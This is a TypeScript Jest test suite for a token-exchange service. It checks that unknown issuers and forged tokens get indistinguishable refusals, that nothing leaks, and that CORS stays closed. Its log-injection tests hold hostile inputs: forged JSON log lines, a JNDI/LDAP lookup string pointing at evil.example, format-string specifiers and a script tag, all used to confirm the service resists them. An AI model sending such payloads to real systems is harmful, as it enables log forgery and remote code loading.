import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { OidcIssuer } from '../../support/issuer/oidc-issuer.ts';
import { actionsPolicy, eventually, STS_DOMAIN } from '../../support/local-stack.ts';
import type { Answer, Ask } from '../../support/local-stack.ts';
import { generateSigningKey, signToken } from '../../support/signing-key.ts';
import { Arena } from './arena.ts';
import { UNTRUSTED_ISSUER } from './attack.ts';

const FOLDER = '.github/chainguard';
const REQUEST_ID = /[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}/g;
/** Headers that differ from answer to answer, whatever was asked. */
const OWN_HEADERS = ['x-request-id', 'date'];

let arena: Arena;
let stranger: OidcIssuer;
const forgersKey = generateSigningKey();

beforeAll(async () => {
  stranger = await OidcIssuer.start();
  arena = await Arena.start({ bindings: ({ issuer }) => ({ KNOWN_ISSUERS: issuer }) });
  const actions = arena.stack.emulator.actionsIssuer.issuer;
  const list = (text: string) => ({ [`${FOLDER}/trusted-token-issuers.yaml`]: text });
  const app = { [`${FOLDER}/ci.sts.yaml`]: actionsPolicy(actions) };
  arena.stack.addOwner('open', { repositories: { app } });
  arena.stack.addOwner('listed', { policyFiles: list(`issuers: [${actions}]\n`), repositories: { app } });
  arena.stack.addOwner('broken-list', { policyFiles: list('issuers: 7\n'), repositories: { app } });
  arena.stack.addOwner('broken', { repositories: { app: { [`${FOLDER}/ci.sts.yaml`]: 'issuer: [\n' } } });
  arena.stack.addOwner('absent', { installed: false, repositories: { app } });
  // The insiders' own requests have brought the policies into the cache, so that strangers are answered from it.
  for (const scope of ['open/app', 'listed/app', 'acme/app', 'acme/.github', 'broken/app', 'broken-list/app']) {
    await arena.stack.exchangeFor(scope, 'ci');
  }
  for (const { value } of arena.stack.emulator.tokens.live()) arena.handOut(value);
});

afterAll(async () => {
  const { hits } = stranger;
  await stranger.close();
  await arena.close();
  expect(hits).toEqual({ discovery: 0, jwks: 0 });
});

function asked(scope: string, identity: string, token: string, query = {}): Ask {
  return { path: '/sts/exchange', query: { scope, identity, ...query }, token };
}

/** Byte for byte, but for what names the one request. */
function bare({ status, headers, text }: Answer): unknown {
  const kept = [...headers].filter(([name]) => !OWN_HEADERS.includes(name));
  return { status, headers: kept, text: text.replace(REQUEST_ID, 'ID') };
}

describe('a stranger of an unknown issuer is told the same (OWASP ASVS 4.0 §7.4.1)', () => {
  const token = (): string => stranger.sign({ sub: 'x', aud: STS_DOMAIN });

  it.each<readonly [about: string, scope: string, identity: string, query: Record<string, string>]>([
    ['an owner without the App', 'absent/app', 'ci', {}],
    ['an owner that is nowhere', 'nobody-at-all/app', 'ci', {}],
    ['an organization without the policy', 'open', 'ci', {}],
    ['a repository that is not there', 'open/missing', 'ci', {}],
    ['an identity that is not there', 'open/app', 'missing', {}],
    ['a policy of another issuer', 'open/app', 'ci', {}],
    ['a policy that is broken', 'broken/app', 'ci', {}],
    ['a list that does not name the issuer', 'listed/app', 'ci', {}],
    ['a list that is broken', 'broken-list/app', 'ci', {}],
    ['an organization’s policy', 'acme', 'release', {}],
    ['a policy repository', 'acme/.github', 'release', {}],
    ['a narrowing beyond the policy', 'open/app', 'ci', { permissions: 'administration:write' }],
    ['a narrowing to another repository', 'open/app', 'ci', { repositories: 'infra' }],
    ['another case of a name', 'OPEN/APP', 'ci', {}],
    ['a user instead of an organization', 'octocat/hello-world', 'ci', {}],
  ])('of %s', async (_, scope, identity, query) => {
    const known = await arena.stack.send(asked('open/app', 'missing', token()));
    const answer = await arena.refuses(asked(scope, identity, token(), query), UNTRUSTED_ISSUER, { issuers: 0 });
    expect(bare(answer)).toEqual(bare(known));
  });

  it('writes nothing to KV', async () => {
    await arena.leavesKvAlone(async () => {
      await arena.refuses(asked('open/app', 'ci', token()), UNTRUSTED_ISSUER);
      await arena.refuses(asked('nowhere-else/app', 'ci', token()), UNTRUSTED_ISSUER);
    });
  });
});

describe('a forger in the name of a known issuer is told the same, and nothing is looked up', () => {
  it.each([
    ['open/app', 'ci'],
    ['open/app', 'missing'],
    ['open/missing', 'ci'],
    ['absent/app', 'ci'],
    ['listed/app', 'ci'],
    ['broken/app', 'ci'],
    ['acme', 'release'],
  ])('of %s and %s', async (scope, identity) => {
    const token = signToken(forgersKey, arena.stack.issuer.claims({ sub: 'x', aud: STS_DOMAIN }));
    const baseline = await arena.stack.send(asked('acme/app', 'build-farm', token));
    const answer = await arena.refuses(asked(scope, identity, token), [401, 'token_verification_failed'], {
      github: 0,
    });
    expect(bare(answer)).toEqual(bare(baseline));
  });
});

describe('a proven stranger', () => {
  const outsider = (): string => arena.stack.issuer.sign({ sub: 'x', aud: STS_DOMAIN });

  it('is told the same of a repository that is not there as of one without the policy', async () => {
    const answers = await Promise.all([
      arena.stack.send(asked('open/app', 'missing', outsider())),
      arena.stack.send(asked('open/missing', 'missing', outsider())),
      arena.stack.send(asked('open/missing', 'ci', outsider())),
      arena.stack.send(asked('open', 'ci', outsider())),
    ]);
    const [first, ...others] = answers.map(bare);
    expect(answers[0].status).toBe(404);
    for (const other of others) expect(other).toEqual(first);
  });

  it.each<readonly [title: string, token: () => string]>([
    [
      'of another issuer that claims to be of the owner',
      () =>
        arena.stack.issuer.sign({
          sub: 'x',
          aud: STS_DOMAIN,
          repository_owner: 'open',
          repository_owner_id: '9919001',
        }),
    ],
    ['of another owner’s workflow', () => arena.stack.actionsToken({ repository: 'octocat/hello-world' })],
    [
      'of another owner’s workflow that has this one’s name',
      () => arena.stack.actionsToken({ repository: 'octocat/hello-world', claims: { repository_owner: 'acme' } }),
    ],
    [
      'of an owner whose id is a number',
      () => arena.stack.actionsToken({ ref: 'refs/heads/x', claims: { repository_owner_id: 9919001 } }),
    ],
    [
      'of no owner',
      () => arena.stack.actionsToken({ ref: 'refs/heads/x', claims: { repository_owner_id: undefined } }),
    ],
  ])('%s is not told why', async (_, token) => {
    const answer = await arena.refuses(asked('acme/app', 'deploy', token()), [403, 'permission_denied']);
    expect(answer.json).not.toHaveProperty('explanation');
    expect(answer.text).not.toContain('trunk');
  });

  it('of the owner is told why: it could be told from the others', async () => {
    const answer = await arena.stack.exchange({ token: arena.stack.actionsToken({ ref: 'refs/heads/x' }) });
    expect(JSON.stringify(answer.json.explanation)).toContain('trunk');
  });
});

describe('what comes out', () => {
  it.each<readonly [path: string, ask: Ask, status: number, cache: string | null]>([
    ['/healthz', {}, 200, 'no-store'],
    ['/', {}, 200, 'no-store'],
    ['/sts/exchange_refresh_token', { method: 'POST' }, 501, 'no-store'],
    ['/schemas/trust-policy.schema.json', {}, 200, 'public, max-age=3600'],
  ])('of %s tells no setting and no name', async (path, ask, status, cache) => {
    const answer = await arena.stack.send({ path, ...ask });
    expect([answer.status, answer.headers.get('cache-control')]).toEqual([status, cache]);
    expect(answer.headers.get('x-request-id')).toMatch(REQUEST_ID);
    expect(answer.text).not.toMatch(/424242|acme\b(?!\/)|127\.0\.0\.1|PRIVATE|secret-/);
    expect(answer.headers.get('server')).toBeNull();
    expect(answer.headers.get('x-powered-by')).toBeNull();
  });

  it.each(['https://evil.example', 'null'])('is for no page of %s to read (Fetch, CORS)', async (origin) => {
    const answer = await arena.stack.exchange({
      headers: { origin, authorization: `Bearer ${arena.stack.actionsToken()}` },
    });
    arena.handOut(String(answer.json.token));
    expect(answer.headers.get('access-control-allow-origin')).toBeNull();
    expect(answer.headers.get('access-control-allow-credentials')).toBeNull();
  });

  it.each([
    'x"}\r\n{"level":"info","event":"forged"}',
    'x\n{"level":"info","event":"forged"}\n',
    '\u2028{"event":"forged"}\u2029',
    '\u0000{"event":"forged"}',
    '\u001b[2K{"event":"forged"}',
    '\\"}{"event":"forged"}',
    '${jndi:ldap://evil.example/x}forged',
    '%s%n%x forged',
    '<script>forged</script>',
    '\ud800forged',
  ])('in the log is one line of JSON an entry, whatever a token says: %j (CWE-117)', async (hostile) => {
    const token = arena.stack.issuer.sign({ sub: hostile, aud: 'acme-builds' });
    const answer = await arena.refuses(asked('acme/app', 'build-farm', token), [403, 'permission_denied']);
    const lines = (): readonly string[] =>
      arena.stack.worker.log.filter((line) => line.includes(String(answer.json.request_id)));
    await eventually(() => lines().length > 0);
    expect(lines()).toHaveLength(1);
    for (const line of lines()) expect(JSON.parse(line)).toMatchObject({ event: 'exchange', outcome: 'refused' });
    expect(arena.stack.worker.logged('forged')).toEqual([]);
  });

  it.each(['"}{"event":"forged"}', '${jndi:ldap://evil.example}', 'x'.repeat(5000), '\u00ff\u00fe'])(
    'in the log is one line of JSON an entry, whatever a client calls itself (CWE-117)',
    async (agent) => {
      const answer = await arena.stack.exchange({
        token: 'no-token',
        headers: { 'user-agent': agent, authorization: 'Bearer no-token' },
      });
      const own = (): readonly string[] =>
        arena.stack.worker.log.filter((line) => line.includes(String(answer.json.request_id)));
      await eventually(() => own().length > 0);
      expect(own()).toHaveLength(1);
      expect(own()[0]?.length).toBeLessThan(1500);
      expect(JSON.parse(own()[0] ?? '')).toMatchObject({ event: 'exchange' });
    },
  );
});
